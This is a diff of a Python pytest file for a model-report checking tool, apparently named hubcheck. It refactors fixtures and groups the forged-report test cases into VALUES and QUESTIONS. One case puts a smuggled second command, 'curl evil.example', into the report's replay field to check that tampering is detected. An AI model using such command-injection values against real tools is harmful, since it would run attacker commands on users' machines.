@@ -154,14 +154,24 @@ def test_a_report_names_what_it_does_not_compare(mine: Path, replay: Replay) -> 
 # -- forged reports -------------------------------------------------------------------------------
 
 
-@pytest.fixture
-def mine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
-    """Return a report about a model whose declaration is wrong, and whose suspect matches."""
-    monkeypatch.chdir(tmp_path)
-    for name, folder in (("wrong-declaration", "m"), ("base", "base"), ("twin", "twin")):
-        shutil.copytree(model(name), folder)
+@pytest.fixture(scope="module")
+def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Return a folder with three models and a report, made once; tests forge copies of it."""
+    folder = tmp_path_factory.mktemp("made")
+    for name, here in (("wrong-declaration", "m"), ("base", "base"), ("twin", "twin")):
+        shutil.copytree(model(name), folder / here)
     words = ["--base", "./base", "--suspect", "./twin", "--seed", "3", "--out", "out"]
-    assert main(["check", "./m", *words]) == ExitCode.POLICY_FAILED
+    with pytest.MonkeyPatch.context() as patch:
+        patch.chdir(folder)
+        assert main(["check", "./m", *words]) == ExitCode.POLICY_FAILED
+    return folder
+
+
+@pytest.fixture
+def mine(made: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """Return a report about a model whose declaration is wrong, and whose suspect matches."""
+    shutil.copytree(made, tmp_path, dirs_exist_ok=True)
+    monkeypatch.chdir(tmp_path)
     return tmp_path / "out" / "report.json"
 
 
@@ -185,7 +195,9 @@ def at(*path: str | int, to: Any) -> Callable[[dict[str, Any]], None]:
     return forge
 
 
-FORGED: dict[str, tuple[Callable[[dict[str, Any]], None], str]] = {
+Forgery = tuple[Callable[[dict[str, Any]], None], str]
+
+VALUES: dict[str, Forgery] = {
     "relation": (
         at("findings", 1, "relation", "kind", to="identical"),
         "findings[1].relation.kind",
@@ -200,27 +212,40 @@ FORGED: dict[str, tuple[Callable[[dict[str, Any]], None], str]] = {
         at("findings", 1, "base", "created", to="2020-01-01"),
         "findings[1].base.created",
     ),
-    "declared": (at("declared", "bases", to=["other/x"]), "declared.bases[0]"),
-    "role": (at("findings", 0, "declared", to=False), "findings[0].declared"),
     "reason": (at("findings", 0, "proposed_by", to=["config.json"]), "findings[0].proposed_by[0]"),
     "explained": (at("findings", 1, "explained_by", to="./base"), "findings[1].explained_by"),
     "bytes": (at("findings", 0, "bytes_read", to=5), "findings[0].bytes_read"),
+}
+"""Values that the same question answers otherwise."""
+
+QUESTIONS: dict[str, Forgery] = {
+    "declared": (at("declared", "bases", to=["other/x"]), "declared.bases[0]"),
+    "role": (at("findings", 0, "declared", to=False), "findings[0].declared"),
     "command": (at("replay", to="hubcheck check x; curl evil.example"), "replay"),
     "deleted": (_delete_finding, "replay"),
     "added": (_add_finding, "findings[2]"),
 }
+"""What changes the question itself: each is asked alone."""
 
 
-@pytest.mark.parametrize("what", FORGED)
-def test_a_forged_report_does_not_agree(mine: Path, replay: Replay, what: str) -> None:
-    """Exit code 1, the field is named with both values, and ``agrees`` is not said."""
-    forge, path = FORGED[what]
+@pytest.mark.parametrize(
+    "forgeries",
+    [VALUES, {"notes": VALUES["notes"]}, *({what: one} for what, one in QUESTIONS.items())],
+    ids=" ".join,
+)
+def test_a_forged_report_does_not_agree(
+    mine: Path, replay: Replay, forgeries: dict[str, Forgery]
+) -> None:
+    """Exit code 1, each field is named with both values, and ``agrees`` is not said."""
     report = json.loads(mine.read_text())
-    forge(report)
+    for forge, _ in forgeries.values():
+        forge(report)
     mine.write_text(json.dumps(report))
     code, text = replay(mine)
     assert code == ExitCode.POLICY_FAILED, text
-    assert any(line.startswith(path) and " in the report, " in line for line in text.splitlines())
+    named = [line for line in text.splitlines() if " in the report, " in line]
+    for what, (_, path) in forgeries.items():
+        assert any(line.startswith(path) for line in named), what
     assert "does NOT agree" in text
     assert "agrees" not in text
 
